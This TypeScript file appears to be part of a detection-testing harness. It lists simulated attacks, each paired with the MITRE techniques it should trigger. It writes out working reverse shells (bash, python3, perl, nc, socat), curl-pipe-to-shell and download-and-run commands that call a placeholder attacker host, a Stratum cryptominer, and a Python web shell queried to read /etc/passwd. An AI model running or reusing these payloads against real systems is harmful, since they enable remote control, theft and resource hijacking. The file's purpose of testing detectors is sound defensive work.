/** Attacks with somebody else: shells for other computers, downloads, mining, a server with a hole. */
import type { Attack } from './attack.ts';
import { DOWNLOAD_PORT, POOL_PORT, SHELL_PORT, VICTIM } from './far-side.ts';

const PYTHON = '/usr/bin/python3';
const SHELL_FOUND = { techniques: ['T1059', 'T1095'], severity: 'high' } as const;
const WEB_PORT = 8_080;

export const REVERSE_SHELLS: readonly Attack[] = [
  {
    name: 'reverse shell by bash',
    script: `bash -c 'bash -i >& /dev/tcp/{attacker}/${SHELL_PORT} 0>&1'`,
    found: SHELL_FOUND,
  },
  {
    name: 'reverse shell by python3',
    script: `${PYTHON} -c 'import socket,os,subprocess;s=socket.create_connection(("{attacker}",${SHELL_PORT}));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
    found: SHELL_FOUND,
  },
  {
    name: 'reverse shell by perl',
    needs: ['perl'],
    script: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${SHELL_PORT},inet_aton("{attacker}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
    found: SHELL_FOUND,
  },
  {
    name: 'reverse shell by nc',
    needs: ['nc'],
    script: `nc -e /bin/sh {attacker} ${SHELL_PORT}`,
    found: SHELL_FOUND,
  },
  {
    name: 'reverse shell by nc and a named pipe',
    needs: ['nc'],
    script: `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {attacker} ${SHELL_PORT} > /tmp/f`,
    found: SHELL_FOUND,
  },
  {
    name: 'reverse shell by socat',
    needs: ['socat'],
    script: `socat TCP:{attacker}:${SHELL_PORT} EXEC:/bin/sh,stderr`,
    found: SHELL_FOUND,
  },
  {
    name: 'reverse shell by socat with a terminal',
    needs: ['socat'],
    script: `socat TCP:{attacker}:${SHELL_PORT} EXEC:'bash -i',pty,stderr,setsid,sigint,sane`,
    found: SHELL_FOUND,
  },
];

/** Burns a processor for a while, and speaks Stratum (JSON-RPC in lines) with a pool: no options, no name that tells. */
const MINER = `
import hashlib, json, socket, time
pool = socket.create_connection(('{attacker}', ${POOL_PORT}))
lines = pool.makefile('rw')
def ask(number, method, *params):
    lines.write(json.dumps({'id': number, 'jsonrpc': '2.0', 'method': method, 'params': params}) + chr(10))
    lines.flush()
    return json.loads(lines.readline())
ask(1, 'mining.subscribe', 'worker/1.0')
ask(2, 'mining.authorize', 'nobody.worker', 'x')
end = time.monotonic() + 1.5
nonce = 0
while time.monotonic() < end:
    nonce += 1
    hashlib.scrypt(str(nonce).encode(), salt=b'stage', n=1024, r=1, p=1)
    if nonce % 200 == 0: ask(nonce, 'mining.submit', 'nobody.worker', str(nonce))
`;

/** Runs what is asked for, as planted scripts do: everything else about it is an ordinary server. */
const WEB_SHELL = `
import http.server, subprocess, urllib.parse
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        command = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query).get('cmd', ['true'])[0]
        text = subprocess.run(command, shell=True, capture_output=True).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(text)
server = http.server.HTTPServer(('${VICTIM}', ${WEB_PORT}), Page)
print('ready', flush=True)
server.serve_forever()
`;

const written = (path: string, text: string): string => `cat > ${path} << 'END'\n${text}\nEND\n`;

export const OTHER_REMOTE_ATTACKS: readonly Attack[] = [
  {
    name: 'download into a shell',
    needs: ['curl'],
    script: `curl -s http://{attacker}:${DOWNLOAD_PORT}/script | sh`,
    found: { techniques: ['T1105'], severity: 'medium' },
  },
  {
    name: 'download and run',
    needs: ['curl'],
    script: `curl -s -o /tmp/dropped http://{attacker}:${DOWNLOAD_PORT}/script; chmod +x /tmp/dropped; /tmp/dropped`,
    found: { techniques: ['T1105'], severity: 'medium' },
  },
  {
    name: 'download and run by Python',
    script: `${PYTHON} -c 'import urllib.request,os;urllib.request.urlretrieve("http://{attacker}:${DOWNLOAD_PORT}/script","/tmp/fetched");os.chmod("/tmp/fetched",0o755);os.system("/tmp/fetched")'`,
    found: { techniques: ['T1105'], severity: 'medium' },
  },
  {
    name: 'ports are tried by a shell',
    script: `bash -c 'for port in {1..300}; do (2> /dev/null echo > /dev/tcp/{attacker}/$port) && echo port $port is open; done'`,
    found: { techniques: ['T1046'], severity: 'low' },
  },
  {
    name: 'miner',
    before: `${written('/tmp/worker.py', MINER)}echo ready`,
    script: `${PYTHON} /tmp/worker.py`,
    // Nothing about the program tells: what it says to the pool does.
    found: { techniques: ['T1496'], word: '{attacker}' },
  },
  {
    name: 'miner that says what it is',
    before: `${written('/tmp/xmrig', `#!${PYTHON}\n${MINER}`)}chmod +x /tmp/xmrig; echo ready`,
    script: `/tmp/xmrig -o stratum+tcp://{attacker}:${POOL_PORT} -u nobody --donate-level 1`,
    found: { techniques: ['T1496'], severity: 'high' },
  },
  {
    name: 'web shell',
    needs: ['curl'],
    before: `${written('/srv/app.py', WEB_SHELL)}exec ${PYTHON} /srv/app.py`,
    script: `curl -s --interface {attacker} 'http://${VICTIM}:${WEB_PORT}/?cmd=id;uname%20-a;cat%20/etc/passwd'`,
    by: 'stranger',
    found: { techniques: ['T1505.003'], severity: 'medium' },
  },
];
